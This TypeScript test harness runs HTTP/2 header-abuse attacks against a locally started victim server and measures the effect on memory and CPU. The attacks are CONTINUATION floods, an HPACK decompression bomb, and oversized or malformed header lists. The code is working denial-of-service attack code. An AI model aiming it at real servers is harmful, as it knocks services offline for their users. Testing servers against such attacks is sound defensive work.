/**
 * Spike 5b: header-block abuse. CONTINUATION floods (big frames, small frames, empty frames, never
 * END_HEADERS), an HPACK bomb (one 4 KB dynamic-table entry referenced 1000 times), an oversized but
 * finished header list, too many header pairs, and a request without :authority or Host.
 */
import { sleep } from "./common.ts"
import { connect, F, frame, hpack, requestBlock, summary, T } from "./h2raw.ts"
import { goodClient, startVictim } from "./victimctl.ts"

const LIMIT = 128 * 1024 * 1024
const flood = async (label: string, h2: object, next: (i: number) => Buffer) => {
  const v = await startVictim({ h2 })
  const before = await v.stats()
  const { socket, seen, closed } = await connect(v.port)
  socket.write(frame(T.HEADERS, F.END_STREAM, 1, requestBlock("/")))
  let sent = 0, frames = 0
  const t0 = Date.now()
  while (sent < LIMIT && seen.closedMs === undefined && !socket.destroyed && Date.now() - t0 < 10000) {
    const batch: Buffer[] = []
    for (let i = 0; i < 64; i++, frames++) batch.push(frame(T.CONTINUATION, 0, 1, next(frames)))
    const b = Buffer.concat(batch); sent += b.length
    if (!socket.write(b)) await Promise.race([new Promise((r) => socket.once("drain", r)), closed, sleep(1000)])
    else await new Promise((r) => setImmediate(r))
  }
  await Promise.race([closed, sleep(2000)])
  const s = await v.stats()
  console.log(`${label}: sent ${frames} CONTINUATION frames, ${(sent / 1048576).toFixed(1)} MiB in ${Date.now() - t0} ms; client saw ${summary(seen)}`)
  console.log(`   server: rss ${before.rssMiB} -> ${s.rssMiB} MiB, cpuMs=${s.cpuMs - before.cpuMs}, requests=${s.requests}, sessionErrors=${JSON.stringify(s.sessionErrors)}; good client after: ${await goodClient(v.port)}`)
  v.child.kill()
}
const one = async (label: string, h2: object, frames: (Buffer)[]) => {
  const v = await startVictim({ h2 })
  const { socket, seen, closed } = await connect(v.port)
  for (const f of frames) socket.write(f)
  await Promise.race([closed, sleep(1500)])
  const s = await v.stats()
  console.log(`${label}: client saw ${summary(seen)}; server requests=${s.requests} streamErrors=${JSON.stringify(s.streamErrors)} sessionErrors=${JSON.stringify(s.sessionErrors)} rssMiB=${s.rssMiB}`)
  v.child.kill()
}
let n = 0
const big = Buffer.concat(Array.from({ length: 16 }, () => hpack.literal(`x-h${n++}`, "a".repeat(1000))))
await flood("CONTINUATION flood, 16 KB frames of new headers", {}, () => big)
await flood("CONTINUATION flood, one small header per frame", {}, (i) => hpack.literal(`x-${i}`, "v"))
await flood("CONTINUATION flood, empty frames", {}, () => Buffer.alloc(0))
await flood("CONTINUATION flood, 16 KB frames, maxHeaderSize/maxHeaderListSize 16384", { maxHeaderSize: 16384 }, () => big)

// HPACK bomb: stream 1 puts a 4000-byte value in the dynamic table (index 62); stream 3 references it 1000 times.
const put = frame(T.HEADERS, F.END_HEADERS | F.END_STREAM, 1, requestBlock("/", [hpack.literalIncremental("x-bomb", "b".repeat(4000))]))
const bomb = frame(T.HEADERS, F.END_HEADERS | F.END_STREAM, 3, requestBlock("/", Array.from({ length: 1000 }, () => hpack.indexed(62))))
console.log(`HPACK bomb block: ${bomb.length} bytes on the wire, ~${(1000 * 4006 / 1048576).toFixed(1)} MiB decoded`)
await one("HPACK bomb (defaults)", {}, [put, bomb])
// An oversized but finished header list: 100 KB over HEADERS + CONTINUATION, END_HEADERS on the last.
const hundred = Buffer.concat(Array.from({ length: 100 }, (_, i) => hpack.literal(`x-big${i}`, "c".repeat(1000))))
const blk = Buffer.concat([requestBlock("/"), hundred])
const parts: Buffer[] = []
for (let off = 0, first = true; off < blk.length; off += 16384, first = false) {
  const last = off + 16384 >= blk.length
  parts.push(frame(first ? T.HEADERS : T.CONTINUATION, (first ? F.END_STREAM : 0) | (last ? F.END_HEADERS : 0), 1, blk.subarray(off, off + 16384)))
}
await one("100 KB header list, finished (defaults)", {}, parts)
await one("100 KB header list, finished (maxHeaderSize 16384)", { maxHeaderSize: 16384 }, parts)
await one("40 KB header list (defaults)", {}, [frame(T.HEADERS, F.END_STREAM | F.END_HEADERS, 1, Buffer.concat([requestBlock("/"), ...Array.from({ length: 15 }, (_, i) => hpack.literal(`x-m${i}`, "d".repeat(1000)))]))])
await one("40 KB header list (maxHeaderSize 16384)", { maxHeaderSize: 16384 }, [frame(T.HEADERS, F.END_STREAM | F.END_HEADERS, 1, Buffer.concat([requestBlock("/"), ...Array.from({ length: 15 }, (_, i) => hpack.literal(`x-m${i}`, "d".repeat(1000)))]))])
await one("200 header pairs (defaults, maxHeaderListPairs 128)", {}, [frame(T.HEADERS, F.END_STREAM | F.END_HEADERS, 1, Buffer.concat([requestBlock("/"), ...Array.from({ length: 200 }, (_, i) => hpack.literal(`x-p${i}`, "v"))]))])
await one("no :authority, no Host", {}, [frame(T.HEADERS, F.END_STREAM | F.END_HEADERS, 1, requestBlock("/", [], { authority: false }))])
process.exit(0)
